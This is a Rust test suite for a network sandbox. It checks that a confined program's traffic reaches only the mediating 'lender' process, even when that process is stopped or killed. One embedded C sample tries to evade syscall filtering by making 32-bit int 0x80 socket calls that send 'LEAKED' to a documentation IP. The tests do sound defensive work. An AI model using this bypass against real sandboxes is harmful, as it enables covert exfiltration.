//! No packet of a program's leaves this machine but what the lender sends for it: all devices are watched, and every call of what
//! runs outside for it is traced.

use std::{
    collections::{BTreeMap, BTreeSet},
    fs,
    io::Write,
    net::TcpListener,
    os::unix::fs::PermissionsExt,
    path::Path,
    process::{Command, Stdio},
};

use rustix::process::Signal;

use crate::{
    machine::{INHERITED, Machine, Within},
    outside::{LENDER_PORT, Outside, Seen, services_of},
    support::{Daemon, own_uid, run},
};

/// As little as `run` starts with.
const HOSTILE: &str = "[[allow]]\nwho = \"alice\"\nconnect = \"10.77.0.1:9\"\nresolve = \"nothing.example\"\n";
/// Somebody who answers.
const ONE_TARGET: &str = "[[allow]]\nwho = \"alice\"\nconnect = \"10.77.0.1:7000\"\n";

/// Socket, connect and sendto by i386 calls, in memory that they can name.
const INT_80: &str = r#"
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/mman.h>
#include <fcntl.h>
#include <string.h>
static long call(long number, long a, long b, long c, long d, long e) {
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(a), "c"(b), "d"(c), "S"(d), "D"(e) : "memory", "r8", "r9", "r10", "r11");
    return result;
}
int main(void) {
    struct sockaddr_in *to = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    *to = (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons(80), .sin_addr.s_addr = inet_addr("192.0.2.7")};
    char *text = strcpy((char *)to + 64, "LEAKED");
    long stream = call(359, AF_INET, 1, 0, 0, 0), datagram = call(359, AF_INET, 2, 0, 0, 0);
    fcntl(stream, F_SETFL, O_NONBLOCK);
    call(362, stream, (long)to, sizeof *to, 0, 0);
    call(369, datagram, (long)text, 6, 0, (long)to);
    call(362, datagram, (long)to, sizeof *to, 0, 0);
    call(4, datagram, (long)text, 6, 0, 0);
    return 0;
}
"#;

/// The program that tries, with what it needs, in a folder that every user reads.
struct Leaker {
    _folder: tempfile::TempDir,
    arguments: Vec<String>,
    other_end: TcpListener,
}

impl Leaker {
    fn new() -> Self {
        let folder = tempfile::tempdir().unwrap();
        fs::set_permissions(folder.path(), fs::Permissions::from_mode(0o755)).unwrap();
        let path = |name: &str| folder.path().join(name).to_str().unwrap().to_owned();
        fs::copy(Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/within/leak.py"), path("leak.py")).unwrap();
        let second_table = if cfg!(target_arch = "x86_64") {
            fs::write(path("way.c"), INT_80).unwrap();
            run(Command::new("cc").args(["-o", &path("way"), &path("way.c")]));
            path("way")
        } else {
            "none".to_owned()
        };
        let other_end = TcpListener::bind("127.0.0.1:0").unwrap();
        let arguments = vec!["/usr/bin/python3".to_owned(), path("leak.py"), INHERITED.to_string(), second_table];
        Self { _folder: folder, arguments, other_end }
    }

    /// Starts the command that runs it, with a connection that it may have inherited.
    fn start(&self, within: &Within, command: &Command) -> Daemon {
        let mut command = within.holding_a_connection(self.other_end.local_addr().unwrap(), command);
        let program = Daemon::spawn(command.stdin(Stdio::piped()));
        self.other_end.accept().unwrap();
        program
    }

    /// With somebody outside who belongs to the same user.
    fn command(&self, within: &Within) -> (Daemon, Vec<String>) {
        let outsider = Daemon::spawn(within.beside("sleep").arg("1000"));
        let mut words = self.arguments.clone();
        words.push(outsider.child.id().to_string());
        (outsider, words)
    }
}

/// Lets it try once.
fn tries(program: &mut Daemon, round: &str) {
    program.stdin.as_mut().unwrap().write_all(format!("{round}\n").as_bytes()).unwrap();
    loop {
        let line = program.wait_for_line("");
        assert!(!line.contains("is open"), "{line}");
        if line == format!("tried {round}") {
            return;
        }
    }
}

/// Loopback is `open` to a program without namespaces, which meets us there: the kernel carries its connections.
fn nothing_but_the_lender(seen: &Seen, open: bool, who: &str) {
    let others: Vec<_> = seen.others.iter().filter(|line| !open || !line.starts_with("lo ")).collect();
    assert!(others.is_empty(), "as {who}: {others:#?}");
}

/// Without it the others would prove nothing.
#[test]
fn what_the_program_tries_would_be_seen() {
    let mut outside = Outside::start();
    let machine = outside.lender(HOSTILE);
    let leaker = Leaker::new();
    outside.seen();
    for within in outside.borrowers(&machine) {
        outside.seen();
        let (_outsider, words) = leaker.command(&within);
        let mut program = leaker.start(&within, within.beside(&words[0]).args(&words[1..]));
        program.stdin.as_mut().unwrap().write_all(b"unprotected\n").unwrap();
        program.wait_for_line("tried unprotected");
        let seen = outside.seen();
        let has = |text: &str| seen.others.iter().any(|line| line.contains(text));
        for text in ["IPv4 6 ['192.0.2.1', '198.51.100.9']", "IPv4 17 ", "IPv6 6 ", "IPv6 17 ", "224.0.0.251", "LEAKED"]
        {
            assert!(has(text), "{text} as {}: {:#?}", within.uid, seen.others);
        }
        for service in services_of(within.uid) {
            assert!(has(&format!("service {service}")), "{service} as {}: {:#?}", within.uid, seen.others);
        }
    }
}

#[test]
fn no_packet_of_a_program_leaves_with_a_lender_that_refuses_all_or_is_stopped_or_is_gone() {
    let mut outside = Outside::start();
    let leaker = Leaker::new();
    for (by_tun, options) in [(false, &[][..]), (true, &[]), (false, &["--no-netns"])] {
        let mut machine = outside.lender(HOSTILE);
        let (mut programs, open) = (Vec::new(), !options.is_empty());
        for within in outside.borrowers(&machine) {
            let within = if by_tun { within.over_tun() } else { within };
            outside.seen();
            let (outsider, words) = leaker.command(&within);
            let program = leaker.start(&within, within.run_with(options, &[]).args(words));
            programs.push((within, program, outsider));
        }
        for (within, program, _) in &mut programs {
            tries(program, "refused");
            let seen = outside.seen();
            nothing_but_the_lender(&seen, open, &within.who());
        }
        machine.lab.daemon.signal(Signal::STOP);
        for (within, program, _) in &mut programs {
            tries(program, "stopped");
            nothing_but_the_lender(&outside.seen(), open, &within.who());
        }
        machine.lab.daemon.signal(Signal::CONT);
        machine.lab.daemon.kill();
        for (within, program, _) in &mut programs {
            tries(program, "gone");
            nothing_but_the_lender(&outside.seen(), open, &within.who());
            drop(program.stdin.take());
            program.wait();
        }
        nothing_but_the_lender(&outside.seen(), open, "nobody");
    }
}

/// What the process that runs outside has called. `strace -ff` writes a file for each thread: one that nobody started is the
/// first of that process, which starts its other threads by clone3, and the half that runs inside by clone.
fn traces_outside(folder: &Path) -> Vec<String> {
    let read = |file: std::io::Result<fs::DirEntry>| {
        let path = file.unwrap().path();
        let pid = path.extension().unwrap().to_str().unwrap().to_owned();
        (pid, fs::read_to_string(path).unwrap().lines().map(str::to_owned).collect::<Vec<_>>())
    };
    let traces: BTreeMap<_, _> = fs::read_dir(folder).unwrap().map(read).collect();
    let started_by = |lines: &[String], call: &str| {
        let calls = lines.iter().filter(|line| line.starts_with(call));
        calls.filter_map(|line| Some(line.rsplit_once("= ")?.1.to_owned())).collect::<Vec<_>>()
    };
    let all = |call| traces.values().flat_map(move |lines| started_by(lines, call));
    let started: BTreeSet<_> = ["clone", "fork", "vfork"].into_iter().flat_map(all).collect();
    let mut rest: Vec<_> = traces.keys().filter(|pid| !started.contains(*pid)).cloned().collect();
    let mut calls = Vec::new();
    let mut threads = 0;
    while let Some(lines) = rest.pop().and_then(|pid| traces.get(&pid)) {
        rest.extend(started_by(lines, "clone3("));
        // The first has become capuchin by then.
        let first = lines.iter().rposition(|line| line.starts_with("execve(")).map_or(0, |exec| exec + 1);
        calls.extend_from_slice(&lines[first..]);
        threads += 1;
    }
    assert!(threads >= 3, "its runtime has two threads, of {:?}", traces.keys());
    calls
}

/// A program that tries, with every call of what runs outside for it in a file.
struct Traced {
    program: Daemon,
    calls: tempfile::TempDir,
    _outsider: Daemon,
}

impl Traced {
    fn start(outside: &Outside, within: &Within, options: &[&str], leaker: &Leaker) -> Self {
        let calls = tempfile::tempdir().unwrap();
        fs::set_permissions(calls.path(), fs::Permissions::from_mode(0o777)).unwrap();
        let (outsider, words) = leaker.command(within);
        let mut command = outside.traced(within, &calls.path().join("trace"));
        command.arg("run").args(within.network()).args(options).args(["lab", "--"]).args(words);
        Self { program: leaker.start(within, &command), calls, _outsider: outsider }
    }

    /// What was called outside until it has ended.
    fn calls(&mut self) -> Vec<String> {
        drop(self.program.stdin.take());
        assert!(self.program.wait().success());
        traces_outside(self.calls.path())
    }

    /// Of a program without namespaces, whom it meets on loopback: how often it was connected to the lender, and to nobody beyond.
    fn connects_to_the_lender_or_itself(mut self, within: &Within) -> usize {
        let calls = self.calls();
        let own = within.home.folder.path().to_str().unwrap();
        let stays = |call: &str| {
            let is_loopback =
                ["(\"127.0.0.1\")", "\"::1\"", "\"::ffff:127.0.0.1\""].iter().any(|own| call.contains(own));
            is_loopback || call.contains("AF_NETLINK") || (call.contains("AF_UNIX") && call.contains(own))
        };
        // What is sent without an address goes where its socket is connected to.
        let goes =
            |call: &&String| call.starts_with("connect(") || (call.starts_with("send") && call.contains("sa_family="));
        let beyond: Vec<_> = calls.iter().filter(goes).filter(|call| !stays(call)).collect();
        // Without privileges a tracer sees no addresses, as below.
        assert!(own_uid() != 0 || beyond.is_empty(), "as {}: {beyond:#?}", within.who());
        let to_lender = format!("htons({LENDER_PORT})");
        calls.iter().filter(|call| call.starts_with("connect(") && call.contains(&to_lender)).count()
    }

    /// Once it has ended: how often it was connected outside, each time by a socket of its own, and always to the lender.
    fn connects_to_the_lender_alone(mut self, within: &Within) -> usize {
        let calls = self.calls();
        let connects = calls.iter().filter(|call| call.starts_with("connect("));
        // Of a process that lets nobody but root look into it, a tracer without privileges sees the length of an address alone.
        let to_network = |call: &&String| call.contains("AF_INET") || call.contains(", 16)");
        let (lender, others): (Vec<_>, Vec<_>) = connects.partition(to_network);
        if own_uid() == 0 {
            let expected = format!("sin_port=htons({LENDER_PORT}), sin_addr=inet_addr(\"127.0.0.1\")");
            assert!(lender.iter().all(|call| call.contains(&expected)), "as {}: {lender:#?}", within.who());
            let own = within.home.folder.path().to_str().unwrap();
            let is_own =
                |call: &&String| call.contains("AF_NETLINK") || (call.contains("AF_UNIX") && call.contains(own));
            assert!(others.iter().all(is_own), "as {}: {others:#?}", within.who());
        }
        // Nor is there a socket outside that could send without being connected.
        let stays = |call: &&String| call.starts_with("socket(AF_UNIX") || call.starts_with("socket(AF_NETLINK");
        let sockets: Vec<_> = calls.iter().filter(|call| call.starts_with("socket(") && !stays(call)).collect();
        assert_eq!(sockets.len(), lender.len(), "as {}: {sockets:#?} {lender:#?}", within.who());
        lender.len()
    }
}

/// Each kind of user in each kind of network.
fn everybody(outside: &Outside, machine: &Machine) -> Vec<Within> {
    let by_tun = outside.borrowers(machine).into_iter().map(Within::over_tun);
    outside.borrowers(machine).into_iter().chain(by_tun).collect()
}

#[test]
fn who_runs_outside_for_a_program_connects_to_the_lender_and_to_nobody_else() {
    let mut outside = Outside::start();
    let machine = outside.lender(HOSTILE);
    let leaker = Leaker::new();
    let held = everybody(&outside, &machine).into_iter().map(|within| (within, false));
    let bare = outside.borrowers(&machine).into_iter().map(|within| (within, true));
    for (within, is_bare) in held.chain(bare) {
        outside.seen();
        let options: &[&str] = if is_bare { &["--no-netns"] } else { &[] };
        let mut traced = Traced::start(&outside, &within, options, &leaker);
        tries(&mut traced.program, "traced");
        let before = outside.seen();
        nothing_but_the_lender(&before, is_bare, &within.who());
        // A program without namespaces tries the lender's port itself.
        assert!(before.to_lender == 1 || is_bare, "as {}: {}", within.who(), before.to_lender);
        machine.lab.daemon.signal(Signal::STOP);
        tries(&mut traced.program, "stopped");
        machine.lab.daemon.signal(Signal::CONT);
        let connects = match is_bare {
            true => traced.connects_to_the_lender_or_itself(&within),
            false => traced.connects_to_the_lender_alone(&within),
        };
        let seen = outside.seen();
        nothing_but_the_lender(&seen, is_bare, &within.who());
        // It is connected again where the lender was stopped for so long that it was given up.
        let all = before.to_lender + seen.to_lender;
        assert_eq!(connects, all, "what was called, and what was seen, as {}", within.who());
    }
}

#[test]
fn once_its_lender_is_gone_a_program_has_no_network_and_still_nobody_else_is_connected_to() {
    let mut outside = Outside::start();
    let leaker = Leaker::new();
    for by_tun in [false, true] {
        let mut machine = outside.lender(&format!("{HOSTILE}{ONE_TARGET}"));
        let mut programs = Vec::new();
        for within in outside.borrowers(&machine) {
            let within = if by_tun { within.over_tun() } else { within };
            let mut traced = Traced::start(&outside, &within, &[], &leaker);
            traced.program.stdin.as_mut().unwrap().write_all(b"keep\n").unwrap();
            traced.program.wait_for_line("kept echo");
            programs.push((within, traced));
        }
        outside.seen();
        machine.lab.daemon.kill();
        let mut again = 0;
        for (within, mut traced) in programs {
            traced.program.stdin.as_mut().unwrap().write_all(b"lose\n").unwrap();
            let lost = traced.program.wait_for_line("lost ");
            assert_eq!(lost, "lost ECONNRESET ENETUNREACH", "as {}", within.who());
            tries(&mut traced.program, "gone");
            let connects = traced.connects_to_the_lender_alone(&within);
            assert!(connects > 1, "as {}: it never tried again", within.who());
            again += connects - 1;
        }
        let seen = outside.seen();
        nothing_but_the_lender(&seen, false, if by_tun { "by TUN" } else { "by nftables" });
        assert_eq!(seen.to_lender, again, "what was seen, and what was called");
    }
}
